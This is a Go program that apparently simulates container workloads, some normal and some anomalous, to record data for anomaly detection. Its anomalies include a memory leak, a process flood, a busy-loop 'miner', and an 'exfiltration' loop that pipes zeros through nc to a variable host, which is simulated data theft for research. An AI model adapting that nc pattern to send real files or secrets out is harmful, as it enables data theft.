package main

import (
	"io"
	"math/rand/v2"
	"net/http"
	"strconv"
	"time"
)

// A workload is what a container does.
type workload struct {
	name    string
	script  string
	anomaly string // what begins in it when the normal time is over
	cpu     int64  // thousandths of a processor that it may have
	client  func(*rand.Rand, string, <-chan struct{})
}

const serve = "httpd -p 8080 -h /www; "

// workloads are what is recorded. A normal one has no anomaly.
var workloads = []workload{
	{name: "idle", script: "while :; do sleep 5; done", cpu: 200},
	{name: "busy", script: "while :; do :; done", cpu: 80},
	{name: "web-bursts", script: serve + "sleep 100000", cpu: 300, client: bursts},
	{name: "web-steady", script: serve + "sleep 100000", cpu: 300, client: steady},
	{name: "cron", script: "while :; do sleep 55; dd if=/dev/zero bs=64k count=300 2>/dev/null | gzip > /tmp/out; done", cpu: 300},
	{name: "batch", script: `i=7; while :; do i=$(( (i*1103515245+12345) % 2147483648 )); dd if=/dev/urandom of=/tmp/out bs=16k count=$((i / 65536 % 200)) 2>/dev/null; sleep $((i / 4096 % 9)); done`, cpu: 200},
	{name: "sawtooth", script: `while :; do for i in $(seq 1 24); do dd if=/dev/zero of=/dev/shm/$i bs=64k count=16 2>/dev/null; sleep 1; done; rm -f /dev/shm/*; done`, cpu: 200},
	{name: "warm-up", script: `for i in $(seq 1 120); do dd if=/dev/zero of=/dev/shm/$i bs=64k count=4 2>/dev/null; sleep 1; done; while :; do sleep 1; done`, cpu: 200},

	{name: "leak", script: serve, anomaly: `while :; do dd if=/dev/zero bs=16k count=16 2>/dev/null >> /dev/shm/leak; sleep 1; done`, cpu: 300, client: steady},
	{name: "fork-bomb", script: serve, anomaly: `for i in $(seq 1 50); do sleep 1000 & usleep 200000; done; while :; do sleep 1; done`, cpu: 300, client: bursts},
	{name: "miner", script: serve, anomaly: `while :; do :; done`, cpu: 300, client: steady},
	{name: "exfiltration", script: serve, anomaly: `while :; do dd if=/dev/zero bs=64k count=16 2>/dev/null | nc -w 2 $HOST 9009; sleep 1; done`, cpu: 300, client: bursts},
}

// text is the script with its anomaly, which waits for a file.
func (w *workload) text(host string) string {
	if w.anomaly == "" {
		return w.script
	}
	return "HOST=" + host + "; " + w.script + "while [ ! -e /tmp/go ]; do sleep 1; done; " + w.anomaly
}

func newRandom(seed int64, of int) *rand.Rand { return rand.New(rand.NewPCG(uint64(seed), uint64(of))) }

// bursts asks for pages as people do: some in a row, then nothing for a while.
func bursts(r *rand.Rand, address string, end <-chan struct{}) {
	for {
		for range 1 + r.IntN(12) {
			get(r, address)
			if pause(time.Duration(50+r.IntN(200))*time.Millisecond, end) {
				return
			}
		}
		if pause(time.Duration(r.ExpFloat64()*float64(6*time.Second)), end) {
			return
		}
	}
}

// steady asks for a page about every second, more and fewer in turns of 5 minutes.
func steady(r *rand.Rand, address string, end <-chan struct{}) {
	start := time.Now()
	for {
		get(r, address)
		busy := 1 + float64(time.Since(start)%(5*time.Minute))/float64(5*time.Minute)
		if pause(time.Duration(float64(time.Second)/busy*(0.5+r.Float64())), end) {
			return
		}
	}
}

// get asks for a page, whose size is seldom large. Whether it came, the series show.
func get(r *rand.Rand, address string) {
	size := []int{1, 1, 1, 10, 10, 10, 100, 100, 1000}[r.IntN(9)]
	client := http.Client{Timeout: 2 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	answer, err := client.Get("http://" + address + ":8080/" + strconv.Itoa(size) + "k")
	if err == nil {
		_, _ = io.Copy(io.Discard, answer.Body)
		_ = answer.Body.Close()
	}
}

// pause tells whether the end came.
func pause(d time.Duration, end <-chan struct{}) bool {
	select {
	case <-end:
		return true
	case <-time.After(d):
		return false
	}
}
